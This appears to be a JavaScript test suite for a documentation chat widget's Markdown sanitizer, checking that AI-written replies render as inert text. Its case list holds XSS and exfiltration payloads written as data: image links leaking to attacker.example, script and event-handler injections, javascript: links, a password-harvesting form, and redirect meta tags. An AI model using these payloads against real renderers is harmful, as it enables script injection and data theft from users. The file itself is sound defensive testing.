// Whatever a model writes, the rendered reply runs no script, loads nothing, submits nothing and links to sources only.
import assert from "node:assert/strict";
import { test } from "node:test";

import { newPage, serveSite, sharedLines } from "./support.mjs";

const OWN = [
  ["image", "![x](https://attacker.example/p.png?leak=1)"],
  ["image by reference", "![x][r]\n\n[r]: https://attacker.example/p.png"],
  ["script", "a <script>window.ran = 1</script> b"],
  ["handler", "<img src=x onerror='window.ran = 1'> <svg onload=window.ran=1> <details open ontoggle=window.ran=1>"],
  ["frame", "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>"],
  ["link to a script", "[x](javascript:window.ran=1) [y](JaVaScRiPt:window.ran=1) <javascript:window.ran=1> [z](java\nscript:1)"],
  ["link to data", "[x](data:text/html,<script>1</script>)"],
  ["link elsewhere", "[x](https://attacker.example/?q=1) https://attacker.example/auto <https://attacker.example/angle>"],
  ["link on our site that no source names", "[x](/logout) [y](//127.0.0.1/other)"],
  ["form", "<form action=https://attacker.example><input name=password><button>go</button></form>"],
  ["base and meta", "<base href=https://attacker.example/><meta http-equiv=refresh content='0;url=https://attacker.example/'>"],
  ["style", "<style>@import 'https://attacker.example/a.css'; * { display: none }</style><div style='background:url(https://attacker.example/p)'>x</div>"],
  ["our own element", "<docent-chat index='https://attacker.example/m.json'></docent-chat>"],
  ["comment", "a<!-- hidden -->b"],
  ["table", "| a | b |\n|--|--|\n| ![x](https://attacker.example/t.png) | <b onclick=window.ran=1>c</b> |"],
  ["code", "```html onmouseover=1\n<script>window.ran=1</script>\n```\n`<b>`"],
  ["deep quotes", ">".repeat(5000) + " x"],
  ["deep lists", Array.from({ length: 400 }, (_, depth) => "  ".repeat(depth) + "- x").join("\n")],
  ["emphasis", "*a ".repeat(8000)],
  ["brackets", "[".repeat(9000)],
  ["backticks", "`".repeat(9000) + " " + "a`".repeat(3000)],
  ["private characters", "\ue000a\ue001b\ue000"],
  ["中文", "**加粗** [链接](https://attacker.example/) ![图](https://attacker.example/a.png)"],
].map(([id, payload]) => ({ id, payload }));

const SOURCES = [{ n: 1, document: "guide", title: "Guide", headingPath: [], url: "/docs/guide#start" }];

/** Renders every case in the page, waits for anything that it may have set off, and reports what it found wrong. */
async function faults(cases) {
  const { page, requests } = await newPage();
  const site = await serveSite();
  await page.goto(`${site}/demo.css`);
  const before = requests.length;
  const found = await page.evaluate(
    async ({ site, cases, sources }) => {
      const { renderMarkdown } = await import(`${site}/docent/widget/markdown.js`);
      await import(`${site}/docent/widget/docent-chat-define.js`);
      const NODES = new Set("A P H3 H4 H5 H6 UL OL LI PRE CODE BLOCKQUOTE HR TABLE THEAD TBODY TR TH TD DIV STRONG EM DEL BR SPAN".split(" "));
      const ATTRIBUTES = new Set("href target rel title aria-label class tabindex start".split(" "));
      const CLASSES = new Set(["", "cite", "table", "unsupported"]);
      const faults = [];
      for (const { id, payload } of cases) {
        const fault = (what) => faults.push(`${id}: ${what}`);
        const box = document.createElement("div");
        document.body.append(box);
        const started = performance.now();
        try {
          box.append(renderMarkdown(payload, { sources }));
        } catch (error) {
          fault(`threw ${error}`);
        }
        // Long inputs of hostile shape may take a moment, not a freeze; half a second is what a reader calls stuck.
        if (performance.now() - started > 500) fault(`took ${Math.round(performance.now() - started)} ms`);
        if (payload.trim() && payload.length < 2000 && !box.textContent && !/^\s*(<!--|\[)/.test(payload) && !/^!\[\]/.test(payload)) fault("nothing of it is left");
        for (const node of box.querySelectorAll("*")) {
          if (!NODES.has(node.tagName)) fault(`made <${node.tagName}>`);
          if (node.namespaceURI !== "http://www.w3.org/1999/xhtml") fault("left HTML");
          for (const { name, value } of node.attributes) {
            if (!ATTRIBUTES.has(name)) fault(`set ${name}`);
            if (name === "class" && !CLASSES.has(value)) fault(`set the class ${value}`);
          }
          if (node.tagName === "A") {
            const address = new URL(node.href);
            if (address.pathname !== "/docs/guide" || address.origin !== location.origin) fault(`links to ${node.href}`);
          }
        }
        const comments = document.createTreeWalker(box, NodeFilter.SHOW_COMMENT);
        if (comments.nextNode()) fault("left a comment");
        if (/[\u200b\u202a-\u202e\u2066-\u2069\ue000\ue001]/.test(box.textContent)) fault("left unseen characters");
        box.dispatchEvent(new MouseEvent("click", { bubbles: true }));
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      if (window.ran) faults.push("a script ran");
      if (document.querySelector("base, meta[http-equiv], form, iframe, img, script")) faults.push("an active element is in the page");
      return faults;
    },
    { site, cases, sources: SOURCES },
  );
  for (const address of requests.slice(before)) if (!address.startsWith(site)) found.push(`asked for ${address}`);
  return found;
}

test("our own hostile replies stay text", async () => {
  assert.deepEqual(await faults(OWN), []);
});

test("the shared hostile Markdown and HTML stay text", async (t) => {
  const markdown = sharedLines("cases/sanitizer/markdown-cases.jsonl");
  const html = sharedLines("cases/sanitizer/dompurify-expect.jsonl");
  if (!markdown || !html) return t.skip("skipped: the shared sanitizer cases (DOCENT_TESTDATA is not set)");
  assert.ok(markdown.length + html.length > 200);
  assert.deepEqual(await faults([...markdown, ...html]), []);
});

test("what replies do use is rendered", async () => {
  const { page } = await newPage();
  const site = await serveSite();
  await page.goto(`${site}/demo.css`);
  const html = await page.evaluate(
    async ({ site, sources }) => {
      const { renderMarkdown, renderHighlights } = await import(`${site}/docent/widget/markdown.js`);
      const box = document.createElement("div");
      const text = "## Steps\n\n1. Run `make` &amp; wait [1]\n2. **Read** [the guide](/docs/guide#end) [7]\n\n中文句子。 Made up. End.";
      const start = new TextEncoder().encode(text.slice(0, text.indexOf("Made up."))).length;
      box.append(renderMarkdown(text, { sources, unsupported: [[start, start + 8]] }));
      const marks = document.createElement("div");
      marks.append(renderHighlights("创建 venv 环境", [[7, 11]]));
      return { html: box.innerHTML, marks: marks.innerHTML };
    },
    { site, sources: SOURCES },
  );
  const origin = site;
  assert.equal(
    html.html,
    `<h4>Steps</h4><ol><li>Run <code>make</code> &amp; wait <a href="${origin}/docs/guide#start" class="cite" title="Guide" aria-label="[1] Guide">1</a></li>` +
      `<li><strong>Read</strong> <a href="${origin}/docs/guide#end">the guide</a> [7]</li></ol><p>中文句子。 <span class="unsupported">Made up.</span> End.</p>`,
  );
  assert.equal(html.marks, "创建 <mark>venv</mark> 环境");
});
